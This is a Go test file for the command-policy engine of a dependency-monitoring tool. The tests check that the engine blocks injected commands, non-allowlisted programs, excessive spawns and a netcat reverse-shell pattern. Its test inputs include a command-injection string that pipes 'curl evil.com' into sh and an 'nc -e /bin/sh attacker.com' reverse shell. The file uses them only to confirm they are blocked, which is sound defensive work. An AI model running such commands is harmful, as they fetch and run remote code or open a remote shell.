package policy

import (
	"testing"

	"github.com/safedep/depwatch/config"
	"github.com/stretchr/testify/assert"
)

func TestCheckCommandShellMetacharacters(t *testing.T) {
	cfg := config.DefaultConfig()
	engine := NewEngine(cfg, false)

	v := engine.Check(Operation{Kind: KindSpawn, Target: "npm install ; curl evil.com | sh"}, CounterSnapshot{})
	assert.False(t, v.Allowed)
	assert.Equal(t, ReasonShellMetacharactersDetected, v.Reason)
	assert.Equal(t, SeverityCritical, v.Severity)
}

func TestCheckCommandWhitelistedProgramWithInjection(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Commands.AllowedCommands = []string{"npm"}

	engine := NewEngine(cfg, false)

	v := engine.Check(Operation{Kind: KindSpawn, Target: "npm install"}, CounterSnapshot{})
	assert.True(t, v.Allowed)
}

func TestCheckCommandNotInAllowedCommands(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Commands.AllowedCommands = []string{"npm"}

	engine := NewEngine(cfg, false)

	v := engine.Check(Operation{Kind: KindSpawn, Target: "curl http://example.com"}, CounterSnapshot{})
	assert.False(t, v.Allowed)
	assert.Equal(t, ReasonNotInAllowedCommands, v.Reason)
}

func TestCheckCommandHardLimit(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Behavioral.MaxSpawns = 10

	engine := NewEngine(cfg, false)

	v := engine.Check(Operation{Kind: KindSpawn, Target: "node build.js"}, CounterSnapshot{ProcessSpawns: 10})
	assert.False(t, v.Allowed)
	assert.Equal(t, ReasonHardLimitExceeded, v.Reason)
}

func TestCheckCommandBlockedPattern(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Commands.BlockedPatterns = []config.BlockedCommandPattern{
		{Regex: `nc\s+-e`, Severity: "critical", Description: "reverse shell via netcat"},
	}

	engine := NewEngine(cfg, false)

	v := engine.Check(Operation{Kind: KindSpawn, Target: "nc -e /bin/sh attacker.com 4444"}, CounterSnapshot{})
	assert.False(t, v.Allowed)
	assert.Equal(t, ReasonBlockedCommand, v.Reason)
}

func TestCheckCommandAllowsPlainCommand(t *testing.T) {
	cfg := config.DefaultConfig()
	engine := NewEngine(cfg, false)

	v := engine.Check(Operation{Kind: KindSpawn, Target: "node build.js"}, CounterSnapshot{})
	assert.True(t, v.Allowed)
}

func TestSuspiciousPathEntries(t *testing.T) {
	found := SuspiciousPathEntries("/usr/bin:/tmp:/usr/local/bin")
	assert.Contains(t, found, "/tmp")
}
